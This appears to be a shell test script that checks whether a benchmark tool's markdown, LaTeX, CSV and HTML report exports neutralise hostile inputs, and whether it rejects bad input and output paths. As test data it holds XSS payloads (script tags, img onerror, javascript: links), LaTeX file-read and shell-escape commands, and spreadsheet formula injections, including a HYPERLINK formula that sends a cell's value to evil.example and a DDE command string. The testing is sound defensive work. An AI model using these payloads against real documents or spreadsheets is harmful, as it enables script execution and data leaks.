#!/bin/sh
# exports_cli.sh - the report's exports are inert and its inputs bounded
# (docs/report.md, "The exports" and "Inputs"):
#   - markdown (--md): a run whose file name, provenance lines (# command,
#     # commit, # plan), generator and solver names and cells carry HTML
#     (<img onerror>, <script>, <a href=javascript:>, comments, autolinks),
#     markdown links, backtick runs and pipes is rendered by cmark-gfm with
#     raw HTML let through (--unsafe, the GitHub table extension) and opened
#     in headless Chromium (tests/browser/check-report.js --inert --text):
#     no markup of the inputs, none of their script ran, no request, and
#     every text shown as it is; the checker itself must catch a live
#     payload in a copy; compare's markdown of a sweep whose commit line
#     carries a backtick and HTML too;
#   - LaTeX (--tex): cells with control bytes, bytes that are not UTF-8,
#     \input{/etc/passwd}, \write18, ^^5c and every special character
#     compile with pdflatex (no shell escape, halting on the first error)
#     into a PDF; /etc/passwd is not read (the recorder's file list) and
#     PWNED is not made; no command of the inputs is left in the file;
#   - CSV (--csv): read back (Python's csv module), every text field a
#     spreadsheet would take for a formula (= + - @ tab CR) starts with a
#     single quote, and numbers (-3.5, +1e3, the report's own numbers) are
#     as they were;
#   - the HTML report of the same run shows the same texts, runs none of
#     them and is well-formed XML;
#   - inputs: /dev/zero, a FIFO with no writer and a sparse file just over
#     the 256 MiB cap are left out at once (each a line in left-out) and
#     the report is still written from the good sweep; a FIFO in a folder
#     too;
#   - outputs: an output that is a folder, two outputs of one path (spelt
#     alike or not) and an output folder that is an input are bad input
#     (exit 2, one line, nothing written).
# Usage: sh tests/exports_cli.sh path/to/mazebench
# Needs cmark-gfm, pdflatex, node, chromium, python3 and xmllint (sh
# scripts/setup.sh installs them); skipped (77) when one is missing.
set -u
. "$(dirname "$0")/lib.sh"
mz=$1
case $mz in /*) ;; *) mz=$(pwd)/$mz ;; esac
here=$(cd "$(dirname "$0")" && pwd)
for tool in cmark-gfm pdflatex node chromium python3 xmllint; do
    command -v "$tool" >/dev/null 2>&1 ||
        { echo "SKIP: $tool is missing (sh scripts/setup.sh installs it)"; exit 77; }
done
t=$(mktemp -d)
tmp=$t
[ -n "${MZ_KEEP:-}" ] && echo "exports_cli: keeping $t" || trap 'rm -rf "$t"' EXIT
check() { node "$here/browser/check-report.js" --timeout 40 "$@"; }

# ---- the hostile run ----
"$mz" sweep --gen dfs,kruskal --solve bfs --sizes 9 --seeds 1..3 --out "$t/sweep.csv" \
    2>"$t/err" || { fail "sweep: $(cat "$t/err")"; exit 1; }
evil="$t/evil<img src=x onerror=mzPwned('file')>.csv"
python3 - "$t/sweep.csv" "$evil" "$t/compare.csv" "$t/texts.txt" <<'EOF'
import csv, io, sys
src, evil, cmp_path, texts = sys.argv[1:5]
command = "mazebench sweep <img src=x onerror=\"mzPwned('command')\"> <script>mzPwned('script')</script>"
commit = "<a href=\"javascript:mzPwned('a')\">click</a> a``b`c x|y"
plan = ("gen [link](javascript:mzPwned('link')) <https://evil.example/> <!-- comment --> "
        "![pic](x.png) &lt; *emph* _u_ ~~strike~~ \\back <a href=javascript:mzPwned('b')>b</a>")
gen = "dfs<img src=x onerror=\"mzPwned('gen')\">a``b`c|x"
solver = "bfs<script>mzPwned('solver')</script>"
out, header = [], None
for line in open(src).read().split('\n'):
    if line.startswith('# command:'):
        line = '# command: ' + command
    elif line.startswith('# commit:'):
        line = '# commit: ' + commit
    elif line == '# plan: gen dfs':
        line = '# plan: ' + plan
    elif line and not line.startswith('#'):
        if header is None:
            header = next(csv.reader([line]))
        else:
            row = next(csv.reader([line]))
            if row[header.index('gen')] == 'dfs':
                row[header.index('gen')] = gen
            row[header.index('solver')] = solver
            s = io.StringIO()
            csv.writer(s, lineterminator='').writerow(row)
            line = s.getvalue()
    out.append(line)
open(evil, 'w').write('\n'.join(out))
# A comparison whose text cells carry formulas, numbers, TeX and bytes.
tex = "\\input{/etc/passwd} \\write18{touch PWNED} ^^5c % # $ & _ { } ~ ^ \\ x"
ctrl = b"c\x01t\x02l\x1f\x7fz \xff\xfe\xc3( \xed\xa0\x80 \xe2\x86\x92 \xf0\x9f\x98\x80 \xc2\xab".decode('latin-1')
rows = [
    ['level', 'kind', 'gen', 'seed', 'topology', 'rows', 'cols', 'solver', 'n_base', 'n_new',
     'ratio', 'ci_lo', 'ci_hi', 'p_adj', 'test', 'verdict', 'note', 'rng'],
    ['algorithm', 'gen', gen, '', 'ortho', '9', '9', solver, '6', '6', '1.5', '1.2', '1.8',
     '0.01', '+1e3', 'slower', '=HYPERLINK("http://evil.example/?"&A1,"click")', 'mulberry32'],
    ['algorithm', '@SUM(A1:A9)', 'kruskal', '', 'ortho', '9', '9', 'bfs', '6', '6', '-3.5',
     '-4', '-3', '0.02', '-3.5', 'faster', '+cmd|\' /C calc\'!A0', 'mulberry32'],
    ['algorithm', 'solve', tex, '', 'ortho', '9', '9', ctrl, '6', '6', '1', '0.9', '1.1',
     '1', '-2+3', 'unchanged', '\ttab first', 'line1\nline2'],
    ['algorithm', 'solve', 'dfs', '', 'ortho', '9', '9', 'bfs', '6', '6', '1', '0.9', '1.1',
     '1', '\rcr first', 'unchanged', '\xef\xbc\x9dSUM(1)', '@x'],
]
with open(cmp_path, 'w', newline='', encoding='latin-1') as f:
    csv.writer(f, lineterminator='\n').writerows(rows)
# the texts a reader must see as they are (markdown: a line end is a space)
open(texts, 'w').write('\n'.join([
    "evil<img src=x onerror=mzPwned('file')>.csv", command, commit, plan, gen, solver,
    '=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(A1:A9)', 'line1 line2', tex,
]) + '\n')
EOF
[ -s "$evil" ] && [ -s "$t/compare.csv" ] || { fail "the hostile inputs were not made"; exit 1; }
# compare's markdown of a sweep whose commit line carries a backtick and HTML
"$mz" sweep --gen dfs --solve bfs --sizes 9 --seeds 1..6 --out "$t/base.csv" 2>"$t/err" &&
    "$mz" sweep --gen dfs --solve bfs --sizes 9 --seeds 1..6 --out "$t/new.csv" 2>"$t/err" ||
    { fail "sweep: $(cat "$t/err")"; exit 1; }
sed "s|^# commit: .*|# commit: x\` <img src=x onerror=\"mzPwned('compare')\"> \`|" "$t/base.csv" >"$t/base2.csv"
"$mz" compare "$t/base2.csv" "$t/new.csv" --format markdown >"$t/compare.md" 2>"$t/err"
[ $? -le 1 ] && grep -q 'Base ' "$t/compare.md" || { fail "compare: $(cat "$t/err")"; exit 1; }
"$mz" report "$evil" "$t/compare.csv" --out "$t/r.html" --md "$t/r.md" --tex "$t/r.tex" \
    --csv "$t/tabs" >"$t/out" 2>"$t/err" || { fail "report: exit $?: $(cat "$t/err")"; exit 1; }

# ---- markdown, rendered with raw HTML let through ----
page() { # MARKDOWN HTML: the rendering inside a page that records any payload call
    { printf '<!DOCTYPE html>\n<html><head><meta charset="utf-8"/><title>exports</title>\n'
      printf '<script>window.mzHits=[];function mzPwned(x){window.mzHits.push(String(x));}</script>\n'
      printf '</head><body>\n'
      cmark-gfm --unsafe -e table "$1"
      printf '</body></html>\n'; } >"$2"
}
cat "$t/r.md" "$t/compare.md" >"$t/all.md"
{ cat "$t/texts.txt"; echo "x\` <img src=x onerror=\"mzPwned('compare')\"> \`"; } >"$t/texts-md.txt"
page "$t/all.md" "$t/md.html"
grep -q '<table>' "$t/md.html" || fail "markdown: cmark-gfm made no table of r.md"
check --html "$t/md.html" --inert --text "$t/texts-md.txt" >"$t/out" 2>"$t/err" ||
    { fail "markdown in the browser:"; cat "$t/err"; }
# no cell split by a pipe of a name: each body row has the header's cells
python3 - "$t/md.html" <<'EOF' || fail "markdown: a table row has another cell count than its header"
import re, sys
html = open(sys.argv[1], encoding='utf-8', errors='replace').read()
for table in re.findall(r'<table>.*?</table>', html, re.S):
    head = len(re.findall(r'<th[ >]', table.split('</thead>')[0]))
    for row in re.findall(r'<tr>(.*?)</tr>', table.split('</thead>')[1], re.S):
        if len(re.findall(r'<td', row)) != head:
            sys.exit(1)
EOF
# the checker catches a live payload (the markdown as it was written before)
printf '| item | value |\n|---|---|\n| file | <img src=x onerror="mzPwned(1)"> |\n' >"$t/live.md"
page "$t/live.md" "$t/live.html"
if check --html "$t/live.html" --inert >"$t/out" 2>"$t/err"; then
    fail "the checker passed a page whose payload ran"
else
    grep -q "the inputs' script ran: 1" "$t/err" || { fail "no 'script ran' line in:"; cat "$t/err"; }
fi

# ---- LaTeX, compiled ----
mkdir "$t/tex"
cp "$t/r.tex" "$t/tex/r.tex"
printf '\\documentclass{article}\n\\usepackage{booktabs,longtable}\n\\begin{document}\n\\input{r.tex}\n\\end{document}\n' \
    >"$t/tex/doc.tex"
(cd "$t/tex" && pdflatex -no-shell-escape -interaction=nonstopmode -halt-on-error -recorder \
    doc.tex >pdflatex.out 2>&1)
st=$?
[ "$st" = 0 ] || { fail "pdflatex: exit $st"; grep -a -A3 '^!' "$t/tex/doc.log" | head -8; }
[ -s "$t/tex/doc.pdf" ] || fail "pdflatex made no PDF"
grep -q 'passwd' "$t/tex/doc.fls" && fail "pdflatex read /etc/passwd"
[ -e "$t/tex/PWNED" ] && fail "PWNED was made"
grep -av '^%' "$t/r.tex" | LC_ALL=C grep -an -e '\\input' -e '\\write' -e '\^\^' -e "$(printf '[\001-\010\016-\037\177]')" &&
    fail "r.tex keeps a command, a ^^ escape or a control byte of an input"
# (the recorder's list is a real witness: a raw \input is in it)
printf '\\documentclass{article}\n\\begin{document}\n\\input{/etc/hostname}\n\\end{document}\n' >"$t/tex/raw.tex"
(cd "$t/tex" && pdflatex -no-shell-escape -interaction=nonstopmode -halt-on-error -recorder \
    raw.tex >/dev/null 2>&1)
grep -q '/etc/hostname' "$t/tex/raw.fls" || fail "the recorder's list does not show a raw \\input"

# ---- CSV, read back ----
python3 - "$t/tabs" <<'EOF' || fail "csv: a formula is not neutralised or a number changed"
import csv, glob, os, re, sys
number = re.compile(r'^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$')
bad = 0
cells = []
for path in sorted(glob.glob(os.path.join(sys.argv[1], '*.csv'))):
    with open(path, newline='', encoding='latin-1') as f:
        for row in csv.reader(f):
            for v in row:
                cells.append(v)
                formula = v[:1] in ('=', '+', '-', '@', '\t', '\r') or \
                          v.encode('latin-1')[:3] in (b'\xef\xbc\x9d', b'\xef\xbc\x8b', b'\xef\xbc\x8d', b'\xef\xbc\xa0')
                if formula and not number.match(v):
                    print('formula-like field not neutralised in %s: %r' % (path, v)); bad = 1
want = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0",
        "'-2+3", "'\ttab first", "'\rcr first", "'\xef\xbc\x9dSUM(1)", "'@x", '+1e3', '-3.5', '-4', '-3']
for w in want:
    if w not in cells:
        print('no field %r' % w); bad = 1
sys.exit(bad)
EOF

# ---- the HTML report of the same run ----
xmllint --noout "$t/r.html" || fail "xmllint rejects the HTML report"
check --html "$t/r.html" --text "$t/texts.txt" >"$t/out" 2>"$t/err" ||
    { fail "the HTML report in the browser:"; cat "$t/err"; }

# ---- inputs the report does not read ----
mkfifo "$t/fifo.csv"
truncate -s $((256 * 1024 * 1024 + 1)) "$t/big.csv"
expect 1 "non-regular and oversized inputs" -- timeout 60 "$mz" report /dev/zero "$t/fifo.csv" \
    "$t/big.csv" "$t/sweep.csv" --out "$t/in.html" --md "$t/in.md"
for why in "'/dev/zero': not a regular file but a character device" \
           "fifo.csv': not a regular file but a pipe" \
           "big.csv': 268435457 bytes, more than the 256 MiB"; do
    grep -q "left out .*$why" "$tmp/err" || fail "no stderr line: left out $why"
done
[ "$(grep -c 'left out' "$tmp/err")" = 3 ] || fail "not three left-out lines: $(cat "$tmp/err")"
[ -s "$t/in.html" ] || fail "no report written beside the inputs left out"
grep -q 'id="run"' "$t/in.html" || fail "the report lacks the good sweep's run section"
grep -q 'not a regular file but a pipe' "$t/in.md" || fail "the FIFO is not in the left-out section"
grep -q '256 MiB' "$t/in.md" || fail "the big file is not in the left-out section"
# a FIFO in a folder: left out, not waited for
mkdir "$t/run"
cp "$t/sweep.csv" "$t/run/sweep.csv"
mkfifo "$t/run/stats.csv"
expect 1 "a FIFO in a folder" -- timeout 60 "$mz" report "$t/run" --out "$t/dir.html"
grep -q "stats.csv': not a regular file but a pipe" "$tmp/err" || fail "the folder's FIFO is not left out"
[ -s "$t/dir.html" ] || fail "no report of the folder"

# ---- outputs that cannot be ----
nothing() { # NAME PATH...: none of them exists
    name=$1
    shift
    for p in "$@"; do [ -e "$p" ] && fail "$name: '$p' was written"; done
}
cd "$t" || exit 1
expect 2 "--charts X --out X" -- "$mz" report sweep.csv --charts X --out X
nothing "--charts X --out X" X
expect 2 "--out F --csv F" -- "$mz" report sweep.csv --out f.html --csv f.html
nothing "--out F --csv F" f.html
expect 2 "--out ./F --md F" -- "$mz" report sweep.csv --out ./g.html --md g.html
nothing "--out ./F --md F" g.html
mkdir T
expect 2 "--md ./DIR/run.csv --csv DIR" -- "$mz" report sweep.csv --out h.html --md ./T/run.csv --csv T
nothing "--md ./DIR/run.csv --csv DIR" h.html T/run.csv T/generators.csv
mkdir D
expect 2 "--out DIR" -- "$mz" report sweep.csv --out D
expect 2 "--md DIR" -- "$mz" report sweep.csv --out i.html --md D
nothing "--md DIR" i.html
expect 2 "--csv INPUT-FOLDER" -- "$mz" report run --out j.html --csv run
nothing "--csv INPUT-FOLDER" j.html run/run.csv run/generators.csv
expect 2 "--out INPUT" -- "$mz" report sweep.csv --out sweep.csv --force
cd / || exit 1

[ "$fails" = 0 ] || { echo "exports_cli: $fails failures"; exit 1; }
echo "exports_cli: ok"
